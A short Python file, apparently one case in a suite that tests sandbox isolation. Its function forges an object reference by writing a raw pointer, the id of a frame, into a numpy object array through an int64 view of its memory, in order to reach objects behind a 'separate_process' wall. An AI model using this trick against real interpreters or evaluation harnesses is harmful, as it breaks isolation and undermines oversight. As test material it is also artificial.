# attack: write a pointer into an array of objects through an array of numbers on its memory
# class: interpreter walk
# wall: separate_process

import numpy as np


def attack(frame, frame_index, config):
    found = np.empty(1, dtype=object)
    np.frombuffer(found, dtype=np.int64)[0] = id(frame)
    return f"inside: {found[0].shape}"
